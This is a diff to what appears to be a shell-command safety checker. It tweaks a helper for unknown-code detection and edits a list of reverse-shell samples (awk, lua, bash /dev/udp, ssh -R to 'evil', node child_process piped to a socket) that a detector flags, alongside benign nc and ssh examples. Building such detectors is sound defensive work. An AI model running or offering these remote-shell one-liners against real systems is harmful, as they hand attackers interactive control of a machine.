@@ -173,7 +173,7 @@ def _runs_unknown_code(command: Command) -> bool:
     return (
         command.name == UNKNOWN
         or (program.glob and command.name not in ("[", "[[", "?", "*"))
-        or (UNKNOWN in command.name and not program.sources == ())
+        or (UNKNOWN in command.name and program.sources != ())
     )
 
 
@@ -202,8 +202,7 @@ _SHELL_ON_SOCKET = re.compile(
         "awk 'BEGIN{s=\"/inet/tcp/0/h/1\"; while(1) s |& getline c}'",
         "lua -e 'require(\"socket\").tcp():connect(\"h\",1); os.execute(\"sh\")'",
         "ssh -R 8080:localhost:22 evil", "bash -c 'sh -i >& /dev/udp/1.2.3.4/53 0>&1'",
-        'node -e \'require("child_process").spawn("sh").stdout.pipe(require("net").connect'
-        '(1,"h"))\'',
+        "node -e 'require(\"child_process\").spawn(\"sh\").stdout.pipe(require(\"net\").connect(1))'",
     ),
     benign=(
         "nc -zv host 80", "ssh host", "ssh -L 8080:localhost:80 host", "echo hi | nc localhost 1234",
